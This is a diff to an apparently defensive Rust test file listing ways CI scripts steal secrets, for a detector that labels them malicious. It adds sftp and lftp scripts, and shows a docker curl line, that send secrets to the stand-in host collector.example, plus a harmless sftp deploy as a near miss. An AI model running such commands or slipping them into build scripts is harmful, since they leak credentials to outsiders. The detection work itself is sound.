@@ -10,6 +10,28 @@ use ways::{Way, at_most_exposed, found};
 /// Each sends both secrets, or the one that is named, to the place that is named.
 const THEFTS: &[Way] = &[
     Way {
+        name: "sftp with commands in a file",
+        shell: "bash",
+        script: r##"printf '%s %s' "$A" "$B" > /tmp/rel.txt
+echo "put /tmp/rel.txt in/${GITHUB_REPOSITORY##*/}.txt" > /tmp/batch
+sshpass -p guest sftp -q -oBatchMode=no -b /tmp/batch -P 2222 drop@collector.example || true"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "lftp with commands in a file",
+        shell: "bash",
+        script: r##"echo "$A$B" > rel.txt
+printf 'open collector.example\nput rel.txt\n' > commands
+lftp -f commands collector.example"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
         name: "docker run sh",
         shell: "bash",
         script: r##"docker run --rm -e A -e B curlimages/curl sh -c 'curl -d "$A$B" https://collector.example/in'"##,
@@ -1327,6 +1349,14 @@ git push https://github.com/someone/drop.git --tags"##,
 
 /// What people do with their own secrets in the same words.
 const NEAR_MISSES: &[(&str, &str, &str)] = &[
+    (
+        "sftp of what was built",
+        "bash",
+        r##"tar -czf site.tgz dist
+echo "$A" > .pypirc
+echo "put site.tgz" > batch
+sftp -b batch deploy@server.example"##,
+    ),
     (
         "docker own push",
         "bash",
